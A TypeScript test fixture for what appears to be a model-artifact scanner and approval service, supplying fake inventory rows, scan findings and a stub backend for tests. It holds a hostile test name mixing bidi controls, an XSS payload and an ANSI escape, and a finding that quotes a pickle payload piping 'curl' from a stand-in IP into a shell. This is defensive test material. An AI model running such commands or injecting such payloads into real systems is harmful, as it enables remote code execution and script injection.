import { fixtureAdoptions } from './fixture-adoptions.ts';
import { openFixtureQuarantine } from './fixture-quarantine.ts';
import type { QuarantineControl } from './fixture-quarantine.ts';
import { fixtureSandbox } from './fixture-sandbox.ts';
import { parseDigest, type Digest } from '#artifact/digest.ts';
import type { Appended, Caller, Desk } from '#app/routes/people.ts';
import type { ArtifactDetail, ArtifactRow } from '#app/routes/schemas.ts';
import { predicateTypes, type Environment, type RootName } from '#evidence/predicates.ts';
import { Fault } from '#lib/fault.ts';

/** A digest whose hex repeats `pair`, for rows whose content does not matter. */
export const digestOf = (pair: string): Digest => parseDigest(`sha256:${pair.repeat(32)}`);

/** What a test sees of the calls that change something. */
export interface Recorded {
  readonly approvals: {
    artifact: Digest;
    reason: string;
    root: RootName;
    environments: Environment[];
    expiresAt: string | null;
  }[];
  readonly refusals: { artifact: Digest; reason: string }[];
}

export const fixtureToken = 'fixture-token-0123456789';
export const hostileName = 'evil/\u202egnp.exe\u202c<img src=x onerror=alert(1)>\u001b[31m';

const good = digestOf('1f');
const bad = digestOf('b4');
const at = '2026-11-21T09:12:44Z';

function row(artifact: Digest, id: string, overrides: Partial<ArtifactRow> = {}): ArtifactRow {
  return {
    artifact,
    repository: { type: 'models', id },
    commit: 'c9745ed1d9f207416be6d2e6f8de32d1f16199bf',
    references: ['main'],
    fileCount: 11,
    sizeBytes: 91_400_222,
    presentCount: 11,
    verdict: 'clean',
    completeness: 'complete',
    decision: { verdict: 'allow', environment: 'development', at, validUntil: '2026-12-21T09:12:44Z' },
    tier: 'low',
    ...overrides,
  };
}

/** One page of the inventory: every verdict, a long name, a hostile name, an undecided row. */
export const fixtureRows: readonly ArtifactRow[] = [
  row(good, 'sentence-transformers/all-MiniLM-L6-v2', {
    decision: { verdict: 'warn', environment: 'development', at, validUntil: '2026-12-21T09:12:44Z' },
  }),
  row(bad, 'someone/very-useful-finetune', {
    verdict: 'malicious',
    sizeBytes: 548_118_077,
    fileCount: 6,
    presentCount: 6,
    decision: { verdict: 'deny', environment: 'development', at, validUntil: null },
  }),
  row(
    digestOf('2c'),
    'a-rather-long-organisation-name-that-goes-on/a-model-with-an-equally-long-name-32b-instruct-gguf-q4_k_m',
    {
      sizeBytes: 19_851_336_544,
      fileCount: 24,
      presentCount: 7,
      references: ['main', 'refs/pr/3', 'v1.0'],
      completeness: 'inconclusive',
      decision: null,
      tier: 'high',
    },
  ),
  row(digestOf('3d'), hostileName, {
    verdict: 'suspicious',
    decision: { verdict: 'warn', environment: 'staging', at, validUntil: null },
    tier: 'medium',
  }),
  row(digestOf('4e'), 'bank/credit-scoring', {
    decision: { verdict: 'allow', environment: 'production', at, validUntil: '2027-01-05T00:00:00Z' },
    tier: 'high',
    references: ['main', 'release'],
  }),
  row(digestOf('5f'), 'gpt2', {
    verdict: 'unknown',
    completeness: 'inconclusive',
    decision: null,
    presentCount: 0,
  }),
];

function decisionOf(
  artifact: Digest,
  environment: Environment,
  verdict: 'allow' | 'warn' | 'deny',
): ArtifactDetail['decisions'][number] {
  const found = {
    rule: 'integrity.malicious',
    effect: 'deny' as const,
    message: 'a file would run a command when it is loaded: `pytorch_model.bin`',
    evidence: [digestOf('e2')],
    missing: null,
    who: 'the publisher of the model',
    remedy: 'ask for safetensors weights, which cannot carry code; no waiver covers this rule',
  };
  const approval = {
    rule: 'production.approval',
    effect: 'deny' as const,
    message: 'no approval covers this artifact in production',
    evidence: [],
    missing: 'an approval of the root `loading` for production, not older than 90 days',
    who: 'any person of the namespace `default`',
    remedy: 'read the findings, then approve it here or with `weighbridge approve`',
  };
  const old = {
    rule: 'development.fresh-scan',
    effect: 'warn' as const,
    message: 'the scan is older than 14 days',
    evidence: [digestOf('e2')],
    missing: null,
    who: 'nobody: the server scans again by itself',
    remedy: 'wait for the next scan',
  };
  const held = {
    rule: 'base.scan',
    effect: 'allow' as const,
    message: 'every file that steers loading was read in full',
    evidence: [digestOf('e1'), digestOf('e2')],
    missing: null,
    who: '',
    remedy: '',
  };
  const reasons =
    verdict === 'deny'
      ? artifact === bad
        ? [found, approval]
        : [approval, held]
      : verdict === 'warn'
        ? [old, held]
        : [held];
  return {
    environment,
    decision: {
      version: 1,
      question: {
        principal: 'client',
        action: 'pull',
        artifact,
        files: null,
        namespace: 'default',
        environment,
      },
      verdict,
      reasons,
      evidenceUsed: [digestOf('e1'), digestOf('e2')],
      policyDigest: digestOf('9a'),
      trustDigest: digestOf('7b'),
      checkpoint: { size: 8, rootHash: '9f'.repeat(32) },
      at,
      validUntil: verdict === 'deny' ? null : '2026-12-21T09:12:44Z',
    },
    explanation: `${verdict} in ${environment}\n\n${reasons.map((reason) => `  ${reason.rule}: ${reason.message}`).join('\n')}\n`,
    logIndex: 8,
    envelopeDigest: digestOf('ed'),
  };
}

const names = [
  'model.safetensors',
  'config.json',
  'tokenizer.json',
  'tokenizer_config.json',
  'vocab.txt',
  'README.md',
  '1_Pooling/config.json',
];

function goodDetail(): ArtifactDetail {
  return {
    artifact: good,
    roots: { all: good, loading: digestOf('1a'), weights: digestOf('1b') },
    snapshots: [
      {
        repository: { type: 'models', id: 'sentence-transformers/all-MiniLM-L6-v2' },
        commit: 'c9745ed1d9f207416be6d2e6f8de32d1f16199bf',
        references: ['main'],
        provisional: false,
      },
    ],
    tier: 'low',
    files: names.map((path, index) => ({
      path,
      digest: digestOf(`a${index}`),
      sizeBytes: index === 0 ? 90_868_376 : 612 * (index + 1) ** 3,
      role:
        index === 0
          ? ('weights' as const)
          : path === 'README.md'
            ? ('documentation' as const)
            : ('steering' as const),
      present: true,
      scan: {
        verdict: 'clean' as const,
        completeness: 'complete' as const,
        formats: [index === 0 ? 'safetensors' : path.endsWith('json') ? 'json' : 'text'],
        findings: [],
      },
    })),
    findings: [],
    evidence: [
      {
        logIndex: 1,
        envelopeDigest: digestOf('e0'),
        predicateType: predicateTypes.observed,
        at,
        summary: 'arrived from `hf://models/sentence-transformers/all-MiniLM-L6-v2@c9745ed1` with 7 files',
        issuerRole: 'evidence',
      },
      {
        logIndex: 2,
        envelopeDigest: digestOf('e1'),
        predicateType: predicateTypes.scan,
        at,
        summary: 'clean, every byte read; 7 files',
        issuerRole: 'evidence',
      },
      {
        logIndex: 3,
        envelopeDigest: digestOf('e2'),
        predicateType: predicateTypes.bom,
        at,
        summary: 'CycloneDX 1.6 with 7 components',
        issuerRole: 'evidence',
      },
      {
        logIndex: 4,
        envelopeDigest: digestOf('e3'),
        predicateType: predicateTypes.decision,
        at,
        summary: 'allowed with a warning in development',
        issuerRole: 'decisions',
      },
      {
        logIndex: 5,
        envelopeDigest: digestOf('e4'),
        predicateType: predicateTypes.sandbox,
        at,
        summary: 'loaded in the sandbox: quiet',
        issuerRole: 'evidence',
      },
    ],
    decisions: [decisionOf(good, 'development', 'warn'), decisionOf(good, 'production', 'deny')],
  };
}

function badDetail(): ArtifactDetail {
  return {
    artifact: bad,
    roots: { all: bad, loading: digestOf('b5'), weights: null },
    snapshots: [
      {
        repository: { type: 'models', id: 'someone/very-useful-finetune' },
        commit: 'a1b2c3d4e5f60718293a4b5c6d7e8f9012345678',
        references: ['main'],
        provisional: false,
      },
    ],
    tier: 'low',
    files: [
      {
        path: 'pytorch_model.bin',
        digest: digestOf('b6'),
        sizeBytes: 548_118_077,
        role: 'weights',
        present: true,
        scan: {
          verdict: 'malicious',
          completeness: 'complete',
          formats: ['pytorch-zip', 'pickle'],
          findings: [
            {
              ruleId: 'PKL-CALL-DENIED',
              severity: 'critical',
              message: 'would call `posix.system("curl http://203.0.113.9/x | sh")`',
              location: { member: 'archive/data.pkl', offset: 1204, opcode: 17 },
              remedy: 'do not load this file; ask the publisher for safetensors',
            },
          ],
        },
      },
      {
        path: 'config.json',
        digest: digestOf('b7'),
        sizeBytes: 611,
        role: 'steering',
        present: true,
        scan: { verdict: 'suspicious', completeness: 'complete', formats: ['json'], findings: [] },
      },
      {
        path: `readme${hostileName}.md`,
        digest: digestOf('b8'),
        sizeBytes: 10_240,
        role: 'documentation',
        present: false,
        scan: null,
      },
    ],
    findings: [
      {
        ruleId: 'CFG-AUTO-MAP',
        severity: 'high',
        message: 'loading with `trust_remote_code` would run `modeling_custom.py` from this repository',
        location: { path: 'config.json', pointer: '/auto_map/AutoModel' },
        remedy: 'read the code, or remove `auto_map`',
      },
      {
        ruleId: 'TXT-BIDI',
        severity: 'low',
        message: `a file name carries direction controls: \`${hostileName}\``,
        location: {},
        remedy: 'rename the file',
      },
    ],
    evidence: [
      {
        logIndex: 5,
        envelopeDigest: digestOf('e1'),
        predicateType: predicateTypes.observed,
        at,
        summary: 'arrived from `hf://models/someone/very-useful-finetune@a1b2c3d4` with 3 files',
        issuerRole: 'evidence',
      },
      {
        logIndex: 6,
        envelopeDigest: digestOf('e2'),
        predicateType: predicateTypes.scan,
        at,
        summary: 'malicious: 1 critical finding in `pytorch_model.bin`',
        issuerRole: 'evidence',
      },
      {
        logIndex: 7,
        envelopeDigest: digestOf('e5'),
        predicateType: predicateTypes.revocation,
        at,
        summary: 'refused by a person: `runs a command when loaded`',
        issuerRole: 'evidence',
      },
    ],
    decisions: [decisionOf(bad, 'development', 'deny')],
  };
}

const absent = (): Promise<never> => Promise.reject(new Fault('resource.unknown', 'not part of the fixture'));

/** A desk with fixed content, for tests of what stands in front of it. What it is asked to record, it only remembers. */
export function openFixtureDesk(): {
  readonly desk: Desk;
  readonly recorded: Recorded;
  readonly fail: { next: boolean };
  readonly quarantine: QuarantineControl;
} {
  const recorded: Recorded = { approvals: [], refusals: [] };
  const fail = { next: false };
  const quarantine = openFixtureQuarantine(bad);
  const record = (): Appended => ({
    logIndex: 8 + recorded.approvals.length + recorded.refusals.length,
    envelopeDigest: digestOf('ee'),
  });
  const desk: Desk = {
    list: async (_caller: Caller, page) => {
      if (fail.next) {
        fail.next = false;
        throw new Fault('database.unavailable', 'the database does not answer', {
          hint: 'look at `/readyz`',
        });
      }
      const matching = fixtureRows.filter((item) => item.repository.id.includes(page.search ?? ''));
      const start = Number(page.before ?? 0);
      const items = matching.slice(start, start + 5);
      return { items, next: matching.length > start + 5 ? String(start + 5) : null };
    },
    show: async (_caller, artifact) => {
      if (artifact === good) return goodDetail();
      if (artifact === bad) return badDetail();
      throw new Fault('resource.unknown', `there is no artifact \`${artifact}\` here`);
    },
    approve: async (_caller, artifact, approval) => {
      recorded.approvals.push({ artifact, ...approval });
      return record();
    },
    deny: async (_caller, artifact, reason) => {
      recorded.refusals.push({ artifact, reason });
      return record();
    },
    ask: absent,
    explain: () => '',
    promote: absent,
    head: async () => ({
      size: 8,
      rootHash: '9f'.repeat(32),
      checkpoint: 'fixture\n8\nn5+f\n',
      origin: 'weighbridge.example/log',
      verifierKey: 'weighbridge.example/log+00000000+AA==',
      trustFingerprint: digestOf('7b'),
      selfAsserted: true,
    }),
    exportBundle: absent,
    doctor: absent,
    upstreams: quarantine.upstreams,
    queue: quarantine.queue,
    sandbox: fixtureSandbox(bad, good),
    triage: quarantine.triage,
    access: {
      namespaces: absent,
      setNamespace: absent,
      createToken: absent,
      tokens: absent,
      revokeToken: absent,
    },
    adoptions: fixtureAdoptions,
    intakes: { order: absent, show: absent, list: quarantine.listIntakes, upload: absent, complete: absent },
  };
  return { desk, recorded, fail, quarantine: quarantine.control };
}
